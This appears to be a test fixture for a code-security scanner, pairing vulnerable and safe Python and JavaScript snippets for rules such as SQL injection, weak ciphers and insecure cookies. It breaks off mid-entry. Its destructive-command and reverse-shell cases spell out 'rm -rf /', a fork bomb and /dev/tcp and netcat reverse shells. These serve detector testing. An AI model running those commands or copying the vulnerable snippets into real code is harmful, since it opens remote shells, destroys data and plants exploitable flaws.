/** Code in which a rule must find something, and twins of it in which it must not. */
export interface RuleCases {
  readonly rule: string;
  readonly language: string;
  readonly vulnerable: readonly string[];
  readonly safe: readonly string[];
}

const flask = 'from flask import Flask, request, redirect\napp = Flask(__name__)\n';

/** A Flask view around some lines. */
function view(...lines: string[]): string {
  return `${flask}@app.route('/')\ndef show():\n${lines.map((line) => `    ${line}\n`).join('')}`;
}

/** An Express handler around some lines. */
function handler(...lines: string[]): string {
  return `app.get('/', (req, res) => {\n${lines.map((line) => `  ${line}\n`).join('')}});\n`;
}

/** The table of rules over Python. */
export const pythonCases: readonly RuleCases[] = [
  {
    rule: 'code-injection',
    language: 'python',
    vulnerable: [
      'eval(user_input)',
      'def run(text):\n    return eval(text)',
      'from builtins import eval as compute\ncompute(expression)',
      view("exec(request.form['code'])"),
      'import sys\nsource = "print(" + sys.argv[1] + ")"\nexec(source)',
    ],
    safe: [
      'eval("1+1")',
      'a = "1"\nb = a + "+1"\neval(b)',
      'import ast\nast.literal_eval(user_input)',
      'class Model:\n    def eval(self): pass\nModel().eval()',
      view("n = int(request.args['n'])", 'eval(str(n))'),
      view(
        "op = request.args['op']",
        "if op not in ('1+1', '2+2'):",
        "    return 'no'",
        'eval(op)',
      ),
    ],
  },
  {
    rule: 'dynamic-import',
    language: 'python',
    vulnerable: [
      view("__import__(request.args['m'])"),
      view('import importlib', "importlib.import_module(request.args['m'])"),
      'from importlib import import_module as load\nload(name_from_somewhere)',
      'import importlib\nimportlib.import_module(plugin)',
    ],
    safe: [
      "import importlib\nimportlib.import_module('json')",
      "name = 'js' + 'on'\n__import__(name)",
      'import importlib\ndef load(name):\n    return importlib.import_module(name)',
      view("name = request.args['m']", "if name in ('json', 'csv'):", '    __import__(name)'),
    ],
  },
  {
    rule: 'command-injection',
    language: 'python',
    vulnerable: [
      view('import os', "os.system('ping ' + request.args['host'])"),
      view('import subprocess as sp', 'sp.run(f"ping {request.args[\'host\']}", shell=True)'),
      'from os import popen as p\np("cat " + filename)',
      'import subprocess\ndef show(name):\n    subprocess.call("cat %s" % name, shell=True)',
      view('import subprocess', "subprocess.run(['sh', '-c', request.args['c']])"),
    ],
    safe: [
      "import subprocess\nsubprocess.run(['ls', '-l'])",
      "import os\ncommand = 'l' + 's'\nos.system(command)",
      view('import subprocess', "subprocess.run(['ping', request.args['host']])"),
      view('import os', 'import shlex', "os.system('ping ' + shlex.quote(request.args['host']))"),
      view(
        'import os',
        "host = request.args['host']",
        "host = 'localhost'",
        "os.system('ping ' + host)",
      ),
    ],
  },
  {
    rule: 'destructive-command',
    language: 'python',
    vulnerable: [
      "import os\nos.system('rm -rf /')",
      "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
      "from shutil import rmtree as wipe\nwipe('/')",
      "import os\nos.system('mkfs.ext4 /dev/sda1')",
      "import os\nos.system(':(){ :|:& };:')",
    ],
    safe: [
      "import os\nos.system('rm -rf ./build')",
      "import subprocess\nsubprocess.run(['rm', '-rf', '/tmp/cache/old'])",
      "import shutil\nshutil.rmtree('build')",
      "print('never run rm -rf /')",
    ],
  },
  {
    rule: 'reverse-shell',
    language: 'python',
    vulnerable: [
      "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
      "import subprocess\nsubprocess.call('nc -e /bin/sh 10.0.0.1 4444', shell=True)",
      "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)",
      'import socket as k\nimport os as o\nc = k.socket()\no.dup2(c.fileno(), 1)',
    ],
    safe: [
      "import os\nos.system('nc -z localhost 80')",
      "import os\nf = open('log')\nos.dup2(f.fileno(), 1)",
      "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))",
      "import os\nos.system('bash -i')",
    ],
  },
  {
    rule: 'sql-injection',
    language: 'python',
    vulnerable: [
      view(
        'import sqlite3',
        "c = sqlite3.connect('db').cursor()",
        'c.execute("select * from t where a = \'" + request.args[\'a\'] + "\'")',
      ),
      'def find(cursor, name):\n    cursor.execute(f"SELECT * FROM users WHERE name = \'{name}\'")',
      'cursor.execute("DELETE FROM t WHERE id = %s" % row_id)',
      'query = "SELECT * FROM t WHERE a = {}".format(value)\ndb.execute(query)',
      'import sqlite3 as s\ncon = s.connect("x")\ncon.execute("select " + column + " from t")',
    ],
    safe: [
      view(
        'import sqlite3',
        "c = sqlite3.connect('db').cursor()",
        "c.execute('select * from t where a = ?', (request.args['a'],))",
      ),
      'table = "users"\ncursor.execute("SELECT * FROM " + table)',
      'def find(cursor, ids):\n    cursor.execute("SELECT * FROM t WHERE id IN (%s)" % ",".join(["?"] * len(ids)), ids)',
      'cursor.execute("SELECT * FROM t WHERE id = %d" % row_id)',
      'print("please select one from " + name)',
    ],
  },
  {
    rule: 'xpath-injection',
    language: 'python',
    vulnerable: [
      view(
        'from lxml import etree',
        "tree = etree.parse('u.xml')",
        'tree.xpath("//u[@n=\'" + request.args[\'n\'] + "\']")',
      ),
      view('import lxml.etree as e', "e.parse('u.xml').xpath(f\"//u[{request.args['n']}]\")"),
      'tree.xpath("//user[@name=\'%s\']" % name_from_form)',
      view('from lxml.etree import XPath as X', "X('//' + request.args['n'])"),
    ],
    safe: [
      view(
        'from lxml import etree',
        "tree = etree.parse('u.xml')",
        "tree.xpath('//u[@n=$n]', n=request.args['n'])",
      ),
      "name = 'ad' + 'a'\ntree.xpath('//u[@n=\"' + name + '\"]')",
      "tree.xpath('//u')",
      view("n = int(request.args['n'])", "tree.xpath('//u[%d]' % n)"),
    ],
  },
  {
    rule: 'ldap-injection',
    language: 'python',
    vulnerable: [
      view(
        'import ldap',
        "c = ldap.initialize('ldap://x')",
        "c.search_s('dc=x', 2, '(uid=' + request.args['u'] + ')')",
      ),
      view(
        'from ldap3 import Connection as C',
        "c = C('x')",
        "c.search('dc=x', f\"(uid={request.args['u']})\")",
      ),
      "connection.search('dc=example', '(cn=%s)' % common_name)",
      view("conn.search(search_base='dc=x', search_filter='(uid={})'.format(request.args['u']))"),
    ],
    safe: [
      view(
        'from ldap.filter import escape_filter_chars as esc',
        "c.search_s('dc=x', 2, '(uid=' + esc(request.args['u']) + ')')",
      ),
      "connection.search('dc=example', '(cn=admin)')",
      "uid = 'a' + 'b'\nconnection.search('dc=x', '(uid=' + uid + ')')",
      view("re.search('a+', request.args['u'])"),
    ],
  },
  {
    rule: 'template-injection',
    language: 'python',
    vulnerable: [
      view(
        'from flask import render_template_string',
        "return render_template_string(request.args['t'])",
      ),
      view('import jinja2', "jinja2.Template('Hi ' + request.args['n'])"),
      view('from jinja2 import Template as T', 'T(f"Hi {request.args[\'n\']}")'),
      'from mako.template import Template\nTemplate(source_text)',
    ],
    safe: [
      view(
        'from flask import render_template_string',
        "return render_template_string('Hi {{ n }}', n=request.args['n'])",
      ),
      "import jinja2\njinja2.Template('Hi {{ n }}')",
      "import jinja2\nt = 'a' + 'b'\njinja2.Template(t)",
      view(
        'from flask import render_template',
        "return render_template('page.html', n=request.args['n'])",
      ),
    ],
  },
  {
    rule: 'cross-site-scripting',
    language: 'python',
    vulnerable: [
      view(
        'from flask import make_response',
        "return make_response('<p>' + request.args['n'] + '</p>')",
      ),
      view("return '<p>' + request.args['n'] + '</p>'"),
      view('from markupsafe import Markup as M', "M(request.args['n'])"),
      'from django.utils.safestring import mark_safe\ndef show(text):\n    return mark_safe("<b>" + text + "</b>")',
    ],
    safe: [
      view('from markupsafe import escape', "return '<p>' + escape(request.args['n']) + '</p>'"),
      view('import html', 'return f"<p>{html.escape(request.args[\'n\'])}</p>"'),
      "from markupsafe import Markup\nMarkup('<b>fixed</b>')",
      view("return '<p>fixed</p>'"),
    ],
  },
  {
    rule: 'autoescape-disabled',
    language: 'python',
    vulnerable: [
      'from jinja2 import Environment\nEnvironment(loader=loader, autoescape=False)',
      'import jinja2\njinja2.Environment()',
      'import jinja2 as j\nj.Environment(loader=x)',
      'from jinja2 import Environment as E\nE(autoescape=False)',
    ],
    safe: [
      'from jinja2 import Environment\nEnvironment(loader=loader, autoescape=True)',
      'import jinja2\njinja2.Environment(autoescape=jinja2.select_autoescape())',
      'import jinja2\njinja2.Environment(**options)',
      'from simulation import Environment\nEnvironment(size=3)',
    ],
  },
  {
    rule: 'path-traversal',
    language: 'python',
    vulnerable: [
      view("return open('data/' + request.args['f']).read()"),
      view('import os', "os.remove(os.path.join('data', request.args['f']))"),
      view('from pathlib import Path', "Path('data', request.args['f']).read_text()"),
      view('import shutil as sh', "sh.copyfile(request.args['f'], 'x')"),
    ],
    safe: [
      view('import os', "return open('data/' + os.path.basename(request.args['f'])).read()"),
      view("f = 'a' + '.txt'", "return open('data/' + f).read()"),
      view(
        'from werkzeug.utils import secure_filename as sf',
        "open('data/' + sf(request.args['f']))",
      ),
      view(
        'import os',
        "p = os.path.realpath('data/' + request.args['f'])",
        "if not p.startswith('/srv/data/'):",
        "    return 'no'",
        'open(p)',
      ),
      'def read(path):\n    return open(path).read()',
    ],
  },
  {
    rule: 'archive-extraction',
    language: 'python',
    vulnerable: [
      "import tarfile\ntarfile.open('a.tar').extractall('out')",
      "import tarfile as t\nwith t.open('a.tar') as archive:\n    archive.extractall()",
      "from tarfile import TarFile\nTarFile('a.tar').extractall('out')",
      "import tarfile\ntarfile.open('a').extractall('o', filter='fully_trusted')",
    ],
    safe: [
      "import tarfile\ntarfile.open('a.tar').extractall('out', filter='data')",
      "import zipfile\nzipfile.ZipFile('a.zip').extractall('out')",
      "import tarfile\ntarfile.open('a').extractall('o', members=checked(t))",
      "import tarfile\ntarfile.open('a.tar').getmembers()",
    ],
  },
  {
    rule: 'permissive-file-mode',
    language: 'python',
    vulnerable: [
      "import os\nos.chmod('x', 0o777)",
      "from os import chmod as c\nc('x', 0o666)",
      "import os\nimport stat\nos.chmod('x', stat.S_IRWXO)",
      "import os\nmode = 0o700 + 0o077\nos.chmod('x', mode)",
    ],
    safe: [
      "import os\nos.chmod('x', 0o600)",
      "import os\nos.chmod('x', 0o755)",
      "import os\nimport stat\nos.chmod('x', stat.S_IRUSR)",
      "import os\nmode = 0o700 - 0o100\nos.chmod('x', mode)",
    ],
  },
  {
    rule: 'insecure-temporary-file',
    language: 'python',
    vulnerable: [
      'import tempfile\ntempfile.mktemp()',
      'from tempfile import mktemp as m\nm()',
      'import tempfile as t\nt.mktemp(".txt")',
      "open('/tmp/report.txt', 'w')",
    ],
    safe: [
      'import tempfile\ntempfile.mkstemp()',
      'import tempfile\ntempfile.NamedTemporaryFile()',
      "open('/tmp/report.txt')",
      "open('report.txt', 'w')",
    ],
  },
  {
    rule: 'server-side-request-forgery',
    language: 'python',
    vulnerable: [
      view('import requests', "requests.get(request.args['url'], timeout=3)"),
      view('from urllib.request import urlopen as u', "u(request.args['url'])"),
      view('import requests as r', "r.get('http://' + request.args['host'] + '/x', timeout=3)"),
      view('import httpx', "httpx.post(request.args['url'])"),
    ],
    safe: [
      view(
        'import requests',
        "requests.get('https://api.example.com/' + request.args['p'], timeout=3)",
      ),
      view('import requests', "url = 'https://a' + '.example'", 'requests.get(url, timeout=3)'),
      view(
        'import requests',
        "u = request.args['url']",
        'if u not in ALLOWED_URLS:',
        "    return 'no'",
        'requests.get(u, timeout=3)',
      ),
      view(
        'import requests',
        'from urllib.parse import urlparse',
        "u = request.args['url']",
        "if urlparse(u).hostname != 'a.example':",
        "    return 'no'",
        'requests.get(u, timeout=3)',
      ),
    ],
  },
  {
    rule: 'open-redirect',
    language: 'python',
    vulnerable: [
      view("return redirect(request.args['next'])"),
      view('import flask', "return flask.redirect(request.args.get('next'))"),
      view('from flask import redirect as r', "return r(request.args['next'])"),
      'from django.shortcuts import redirect\ndef go(request):\n    return redirect(request.GET["next"])',
    ],
    safe: [
      view("return redirect('/home')"),
      view("return redirect('/users/' + request.args['u'])"),
      view('from flask import url_for', "return redirect(url_for('home', u=request.args['u']))"),
      view(
        "n = request.args['next']",
        'if not is_safe_url(n):',
        "    return 'no'",
        'return redirect(n)',
      ),
    ],
  },
  {
    rule: 'missing-timeout',
    language: 'python',
    vulnerable: [
      "import requests\nrequests.get('https://a.example')",
      "from requests import post as p\np('https://a.example')",
      "import requests as r\nr.get('https://a.example', timeout=None)",
      "import requests\nrequests.request('GET', 'https://a.example')",
    ],
    safe: [
      "import requests\nrequests.get('https://a.example', timeout=3)",
      "import requests\nrequests.get('https://a.example', **options)",
      "import cache\ncache.get('https://a.example')",
      "import requests\nt = 1 + 2\nrequests.get('https://a.example', timeout=t)",
    ],
  },
  {
    rule: 'trust-boundary',
    language: 'python',
    vulnerable: [
      view('from flask import session', "session['user'] = request.args['u']"),
      view('import flask', "flask.session['user'] = request.form['u']"),
      view('from flask import session as s', "s['user'] = request.args['u']"),
      view('from flask import session', "name = request.cookies['u']", "session['user'] = name"),
    ],
    safe: [
      view('from flask import session', "session['user'] = 'guest'"),
      view('from flask import session', "session['n'] = int(request.args['n'])"),
      view('session = {}', "session['user'] = request.args['u']"),
      view(
        'from flask import session',
        "u = request.args['u']",
        "u = 'fixed'",
        "session['user'] = u",
      ),
    ],
  },
  {
    rule: 'unsafe-deserialization',
    language: 'python',
    vulnerable: [
      view('import pickle', 'pickle.loads(request.data)'),
      'from pickle import loads as l\nl(blob)',
      'import yaml\nyaml.load(text)',
      'import yaml as y\ny.load(text, Loader=y.UnsafeLoader)',
      'import marshal\nmarshal.loads(data)',
    ],
    safe: [
      'import yaml\nyaml.safe_load(text)',
      'import yaml\nyaml.load(text, Loader=yaml.SafeLoader)',
      'import json\njson.loads(text)',
      'import pickle\npickle.dumps(value)',
      "import torch\ntorch.load('m.pt', weights_only=True)",
    ],
  },
  {
    rule: 'xml-external-entities',
    language: 'python',
    vulnerable: [
      'from lxml import etree\netree.XMLParser(resolve_entities=True)',
      'import lxml.etree as e\ne.XMLParser(no_network=False)',
      view('import xml.etree.ElementTree as ET', 'ET.fromstring(request.data)'),
      'import xml.sax\np = xml.sax.make_parser()\np.setFeature(xml.sax.handler.feature_external_ges, True)',
    ],
    safe: [
      'from lxml import etree\netree.XMLParser(resolve_entities=False)',
      view('import defusedxml.ElementTree as ET', 'ET.fromstring(request.data)'),
      "import xml.etree.ElementTree as ET\nET.fromstring('<a/>')",
      'import xml.sax\np = xml.sax.make_parser()\np.setFeature(xml.sax.handler.feature_external_ges, False)',
    ],
  },
  {
    rule: 'weak-hash',
    language: 'python',
    vulnerable: [
      'import hashlib\nhashlib.md5(data)',
      'from hashlib import sha1 as s\ns(data)',
      "import hashlib\nhashlib.new('m' + 'd5')",
      'from Crypto.Hash import MD5\nMD5.new()',
    ],
    safe: [
      'import hashlib\nhashlib.sha256(data)',
      'import hashlib\nhashlib.md5(data, usedforsecurity=False)',
      "import hashlib\nhashlib.new('sha' + '256')",
      'from other import md5\nmd5(data)',
    ],
  },
  {
    rule: 'weak-cipher',
    language: 'python',
    vulnerable: [
      'from Crypto.Cipher import DES\nDES.new(key)',
      'from Crypto.Cipher import AES\nAES.new(key, AES.MODE_ECB)',
      'from Cryptodome.Cipher import ARC4 as r\nr.new(key)',
      'from cryptography.hazmat.primitives.ciphers import algorithms\nalgorithms.Blowfish(key)',
    ],
    safe: [
      'from Crypto.Cipher import AES\nAES.new(key, AES.MODE_GCM)',
      'from cryptography.hazmat.primitives.ciphers import algorithms\nalgorithms.AES(key)',
      'from shapes import DES\nDES.new(key)',
      'from cryptography.hazmat.primitives.ciphers import modes\nmodes.GCM(iv)',
    ],
  },
  {
    rule: 'weak-key-size',
    language: 'python',
    vulnerable: [
      'from cryptography.hazmat.primitives.asymmetric import rsa\nrsa.generate_private_key(public_exponent=65537, key_size=1024)',
      'from Crypto.PublicKey import RSA\nRSA.generate(512)',
      'from Crypto.PublicKey import RSA as R\nbits = 512 * 2\nR.generate(bits)',
      'from cryptography.hazmat.primitives.asymmetric import dsa\ndsa.generate_private_key(1024)',
    ],
    safe: [
      'from cryptography.hazmat.primitives.asymmetric import rsa\nrsa.generate_private_key(public_exponent=65537, key_size=4096)',
      'from Crypto.PublicKey import RSA\nRSA.generate(2048)',
      'from Crypto.PublicKey import RSA\nbits = 1024 * 2\nRSA.generate(bits)',
      'from Crypto.PublicKey import RSA\nRSA.generate(configured_bits)',
    ],
  },
  {
    rule: 'weak-random',
    language: 'python',
    vulnerable: [
      'import random\ntoken = random.randint(0, 9)',
      "from random import choice as c\npassword = c('abc')",
      'import random as r\ndef make_session_key():\n    return r.getrandbits(64)',
      'import random\ncsrf = random.random()',
    ],
    safe: [
      'import secrets\ntoken = secrets.token_hex(8)',
      'import random\ntoken = random.SystemRandom().randint(0, 9)',
      'from secrets import choice\npassword = choice("abc")',
      'import os\ntoken = os.urandom(8)',
    ],
  },
  {
    rule: 'hard-coded-credential',
    language: 'python',
    vulnerable: [
      "password = 'h7k2mmq9'",
      "import psycopg2 as p\np.connect(password='h7k2mmq9')",
      "settings = {'password': 'h7k2mmq9'}",
      "def check(password):\n    return password == 'h7k2mmq9'",
    ],
    safe: [
      "import os\npassword = os.environ['PASSWORD']",
      "password = ''",
      "password_field = 'h7k2mmq9'",
      'import psycopg2\npsycopg2.connect(password=read())',
      "token_url = 'https://a.example/token1'",
    ],
  },
  {
    rule: 'tls-verification-disabled',
    language: 'python',
    vulnerable: [
      "import requests\nrequests.get('https://a.example', verify=False, timeout=3)",
      'import ssl\nssl._create_unverified_context()',
      'import ssl as s\ncontext.verify_mode = s.CERT_NONE',
      "from requests import get as g\noff = 1 == 2\ng('https://a.example', verify=off, timeout=3)",
    ],
    safe: [
      "import requests\nrequests.get('https://a.example', verify=True, timeout=3)",
      'import ssl\nssl.create_default_context()',
      'import ssl\ncontext.verify_mode = ssl.CERT_REQUIRED',
      'form.check(verify=False)',
    ],
  },
  {
    rule: 'host-key-unchecked',
    language: 'python',
    vulnerable: [
      'import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
      'import paramiko as p\nc.set_missing_host_key_policy(p.WarningPolicy())',
      'from paramiko import AutoAddPolicy as A\nc.set_missing_host_key_policy(A)',
      'import paramiko\npolicy = paramiko.AutoAddPolicy()\nc.set_missing_host_key_policy(policy)',
    ],
    safe: [
      'import paramiko\nc.set_missing_host_key_policy(paramiko.RejectPolicy())',
      'import paramiko\nc.load_system_host_keys()',
      'from paramiko import RejectPolicy as A\nc.set_missing_host_key_policy(A)',
      'import own\nc.set_missing_host_key_policy(own.AskPolicy())',
    ],
  },
  {
    rule: 'cleartext-protocol',
    language: 'python',
    vulnerable: [
      "import telnetlib\ntelnetlib.Telnet('a.example')",
      "from ftplib import FTP as F\nF('a.example')",
      "import ftplib as f\nf.FTP('a.example')",
      'import telnetlib as t\nt.Telnet(host)',
    ],
    safe: [
      "import ftplib\nftplib.FTP_TLS('a.example')",
      "from simulation import Telnet\nTelnet('a')",
      "from ftplib import FTP_TLS as FTP\nFTP('a.example')",
      'import telnetlib',
    ],
  },
  {
    rule: 'insecure-cookie',
    language: 'python',
    vulnerable: [
      "response.set_cookie('a', v, secure=False)",
      "response.set_cookie('a', v, secure=True, httponly=False)",
      "r = response\nr.set_cookie('a', v)",
      'app.config["SESSION_COOKIE_SECURE"] = False',
    ],
    safe: [
      "response.set_cookie('a', v, secure=True)",
      "response.set_cookie('a', v, secure=True, httponly=True)",
      "response.set_cookie('a', v, **flags)",
      'app.config["SESSION_COOKIE_SECURE"] = True',
    ],
  },
  {
    rule: 'unverified-token',
    language: 'python',
    vulnerable: [
      "import jwt\njwt.decode(t, k, options={'verify_signature': False})",
      'import jwt\njwt.decode(t, k, verify=False)',
      "import jwt as j\nj.decode(t, k, algorithms=['none'])",
      'import jwt\noff = not True\njwt.decode(t, k, verify=off)',
    ],
    safe: [
      "import jwt\njwt.decode(t, k, algorithms=['HS256'])",
      "import jwt\njwt.decode(t, k, options={'verify_signature': True})",
      'import base64\nbase64.decode(t, k, verify=False)',
      "import jwt\nname = 'RS' + '256'\njwt.decode(t, k, algorithms=[name])",
    ],
  },
  {
    rule: 'debug-enabled',
    language: 'python',
    vulnerable: [
      'from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)',
      'from flask import Flask as F\nserver = F(__name__)\nserver.run(debug=1 == 1)',
      'app.debug = True',
      'import bottle\nbottle.run(debug=True)',
    ],
    safe: [
      'from flask import Flask\napp = Flask(__name__)\napp.run(debug=False)',
      'from flask import Flask\nFlask(__name__).run()',
      'task.run(debug=True)',
      'import os\napp.run(debug=os.environ.get("DEBUG"))',
    ],
  },
  {
    rule: 'binds-all-interfaces',
    language: 'python',
    vulnerable: [
      "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))",
      "app.run(host='0.0.0.0')",
      "import socket as k\nhost = '0.0.' + '0.0'\nk.socket().bind((host, 80))",
      "app.run('0.0.0.0')",
    ],
    safe: [
      "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 80))",
      "app.run(host='127.0.0.1')",
      "task.run('0.0.0.0')",
      "host = '0.0.0.0'",
    ],
  },
  {
    rule: 'cors-any-origin',
    language: 'python',
    vulnerable: [
      'from flask_cors import CORS\nCORS(app)',
      "from flask_cors import CORS as C\nC(app, origins='*')",
      "import flask_cors as f\nf.CORS(app, origins=['*'], supports_credentials=True)",
      "response.headers['Access-Control-Allow-Origin'] = '*'",
    ],
    safe: [
      "from flask_cors import CORS\nCORS(app, origins='https://a.example')",
      "import flask_cors as f\nf.CORS(app, origins=['https://a.example'])",
      "response.headers['Access-Control-Allow-Origin'] = 'https://a.example'",
      "response.headers['X-Any'] = '*'",
    ],
  },
  {
    rule: 'csrf-disabled',
    language: 'python',
    vulnerable: [
      "app.config['WTF_CSRF_ENABLED'] = False",
      'WTF_CSRF_ENABLED = False',
      "app.config['WTF_CSRF_CHECK_DEFAULT'] = False",
      "off = 1 > 2\napp.config['WTF_CSRF_ENABLED'] = off",
    ],
    safe: [
      "app.config['WTF_CSRF_ENABLED'] = True",
      'WTF_CSRF_ENABLED = True',
      "app.config['OTHER'] = False",
      "app.config['WTF_CSRF_ENABLED'] = read()",
    ],
  },
  {
    rule: 'unsafe-pattern',
    language: 'python',
    vulnerable: [
      view('import re', "re.compile(request.args['p'])"),
      "import re\nre.match(r'(a+)+$', text)",
      view('from re import search as s', "s(request.args['p'], 'x')"),
      "import re as r\nr.compile('(' + 'a+' + ')+')",
    ],
    safe: [
      "import re\nre.match(r'(a+b)+$', text)",
      view('import re', "re.compile(re.escape(request.args['p']))"),
      'import re\ndef find(pattern):\n    return re.compile(pattern)',
      "import re\nre.compile(r'(\\.\\w+)*')",
    ],
  },
  {
    rule: 'timing-comparison',
    language: 'python',
    vulnerable: [
      view("return request.args['token'] == token"),
      view("given = request.headers['signature']", 'return given == signature'),
      view("digest = request.args['d']", 'return expected != digest'),
      view('import flask', "token = flask.request.args['t']", 'return token == stored'),
    ],
    safe: [
      view('import hmac', "return hmac.compare_digest(request.args['token'], token)"),
      'def same(token, other):\n    return token == other',
      view("return request.args['page'] == page"),
      view("token = request.args.get('t')", 'return token == None'),
    ],
  },
  {
    rule: 'nosql-injection',
    language: 'python',
    vulnerable: [
      view("db.users.find_one({'name': request.json['name']})"),
      view('users.find(request.json)'),
      view("db.users.delete_many({'a': request.get_json()['a']})"),
      view('import flask as f', "db.users.find_one({'a': f.request.json['a']})"),
    ],
    safe: [
      view("db.users.find_one({'name': 'ada'})"),
      view("db.users.find_one({'n': int(request.json['n'])})"),
      view("text.find(request.args['a'])"),
      view("n = 'a' + 'b'", "db.users.find_one({'name': n})"),
    ],
  },
];

/** The table of rules over JavaScript and TypeScript. */
export const javascriptCases: readonly RuleCases[] = [
  {
    rule: 'code-injection',
    language: 'javascript',
    vulnerable: [
      'eval(userInput)',
      'function run(text) { return eval(text); }',
      'new Function("a", body)',
      handler('eval(req.query.code);'),
      "import { runInNewContext as run } from 'node:vm';\nrun(code);",
      'setTimeout("go(" + location.hash + ")", 10)',
    ],
    safe: [
      "eval('1+1')",
      "const a = '1'; const b = a + '+1'; eval(b);",
      'JSON.parse(userInput)',
      'setTimeout(() => go(location.hash), 10)',
      handler('const op = req.query.op;', "if (!['1+1'].includes(op)) return;", 'eval(op);'),
      'const eval2 = (x) => x; eval2(userInput);',
    ],
  },
  {
    rule: 'dynamic-import',
    language: 'javascript',
    vulnerable: [
      handler('require(req.query.m);'),
      handler('import(req.params.m);'),
      'const a = require(name);',
      handler('const { m } = req.query;', 'require(m);'),
    ],
    safe: [
      "require('fs')",
      "const n = 'f' + 's'; require(n);",
      'function load(name) { return require(name); }',
      handler(
        "const table = { a: 'fs' };",
        'if (Object.hasOwn(table, req.query.m)) require(table[req.query.m]);',
      ),
    ],
  },
  {
    rule: 'command-injection',
    language: 'javascript',
    vulnerable: [
      "const { exec } = require('child_process');\nexec('ls ' + directory);",
      "import { exec as run } from 'node:child_process';\nfunction list(d) { run(`ls ${d}`); }",
      `const cp = require('child_process');\n${handler('cp.execSync(`ping ${req.query.host}`);')}`,
      `import * as cp from 'child_process';\n${handler("cp.spawn('sh', ['-c', req.query.c]);")}`,
    ],
    safe: [
      "require('child_process').exec('ls')",
      "const c = 'l' + 's';\nrequire('child_process').exec(c);",
      `const cp = require('child_process');\n${handler("cp.execFile('ping', [req.query.host]);")}`,
      '/a/.exec(text)',
      `const cp = require('child_process');\n${handler("cp.exec('sleep ' + Number(req.query.n));")}`,
    ],
  },
  {
    rule: 'destructive-command',
    language: 'javascript',
    vulnerable: [
      "require('child_process').exec('rm -rf /')",
      "import { rmSync as rm } from 'fs';\nrm('/', { recursive: true });",
      "const cp = require('child_process');\ncp.execSync('rm -rf ~');",
      "const fs = require('fs');\nfs.rmSync('/ho' + 'me', { recursive: true });",
    ],
    safe: [
      "require('child_process').exec('rm -rf ./dist')",
      "import { rmSync } from 'fs';\nrmSync('dist', { recursive: true });",
      "console.log('rm -rf /')",
      "const fs = require('fs');\nfs.rmSync('/home/ada/x');",
    ],
  },
  {
    rule: 'reverse-shell',
    language: 'javascript',
    vulnerable: [
      "require('child_process').exec('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
      "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.pipe(sh.stdin);",
      "import { exec as e } from 'child_process';\ne('nc -e /bin/sh 10.0.0.1 4444');",
      "import * as net from 'net';\nimport { spawn } from 'child_process';\nnet.connect(1, 'a').pipe(spawn('sh').stdin);",
    ],
    safe: [
      "require('child_process').exec('nc -z localhost 80')",
      "const net = require('net');\nconst c = new net.Socket();\nc.pipe(process.stdout);",
      "const cp = require('child_process');\nconst sh = cp.spawn('sort', []);\nfs.createReadStream('a').pipe(sh.stdin);",
      "console.log('/dev/tcp/10.0.0.1/4444 0>&1')",
    ],
  },
  {
    rule: 'sql-injection',
    language: 'javascript',
    vulnerable: [
      handler("db.query('SELECT * FROM t WHERE a = ' + req.query.a);"),
      "function find(db, name) { return db.query(`SELECT * FROM t WHERE a = '${name}'`); }",
      "import { Client as C } from 'pg';\nnew C().query(`DELETE FROM t WHERE id = ${id}`);",
      handler(
        'const { a } = req.body;',
        'const sql = `UPDATE t SET a = ${a}`;',
        'connection.execute(sql);',
      ),
    ],
    safe: [
      handler("db.query('SELECT * FROM t WHERE a = ?', [req.query.a]);"),
      "const t = 'users'; db.query('SELECT * FROM ' + t);",
      handler('sql`SELECT * FROM t WHERE a = ${req.query.a}`;'),
      handler('db.query(`SELECT * FROM t WHERE a = ${parseInt(req.query.a)}`);'),
    ],
  },
  {
    rule: 'nosql-injection',
    language: 'javascript',
    vulnerable: [
      handler('User.findOne({ name: req.body.name });'),
      handler('db.collection("u").find(req.query);'),
      handler('const { name } = req.body;', 'User.deleteMany({ name });'),
      handler('User.find({ $where: `this.a == ${req.query.a}` });'),
    ],
    safe: [
      handler("User.findOne({ name: 'ada' });"),
      handler('User.findOne({ n: Number(req.body.n) });'),
      handler('list.find((one) => one.name === req.body.name);'),
      handler('User.findOne({ name: sanitize(req.body.name) });'),
    ],
  },
  {
    rule: 'xpath-injection',
    language: 'javascript',
    vulnerable: [
      `const xpath = require('xpath');\n${handler("xpath.select(`//u[@n='${req.query.n}']`, doc);")}`,
      `import { select as s } from 'xpath';\n${handler("s('//u/' + req.query.n, doc);")}`,
      "import xpath from 'xpath';\nxpath.parse('//u/' + name_from_form);",
      "document.evaluate('//u/' + location.hash, document)",
    ],
    safe: [
      "const xpath = require('xpath');\nxpath.select('//u', doc);",
      "const n = 'a' + 'b';\nrequire('xpath').select('//u/' + n, doc);",
      handler('list.select(req.query.n);'),
      handler("require('xpath').select('//u[' + Number(req.query.n) + ']', doc);"),
    ],
  },
  {
    rule: 'ldap-injection',
    language: 'javascript',
    vulnerable: [
      `const ldap = require('ldapjs');\n${handler('client.search("dc=x", { filter: `(uid=${req.query.u})` }, done);')}`,
      handler("client.search('dc=x', { filter: '(uid=' + req.query.u + ')' }, done);"),
      `import { createClient as c } from 'ldapjs';\n${handler("c({}).search('dc=x', { filter: req.query.f }, done);")}`,
      handler(
        'const { u } = req.query;',
        'client.search("ou=x,dc=y", { filter: `(cn=${u})` }, done);',
      ),
    ],
    safe: [
      handler("client.search('dc=x', { filter: '(uid=ada)' }, done);"),
      handler("client.search('dc=x', { filter: '(n=' + Number(req.query.n) + ')' }, done);"),
      handler('books.search(req.query.u);'),
      handler(
        "const u = 'a' + 'b';",
        "client.search('dc=x', { filter: '(uid=' + u + ')' }, done);",
      ),
    ],
  },
  {
    rule: 'template-injection',
    language: 'javascript',
    vulnerable: [
      `const ejs = require('ejs');\n${handler('ejs.render(req.body.t);')}`,
      `import { compile as c } from 'handlebars';\n${handler("c('Hi ' + req.query.n);")}`,
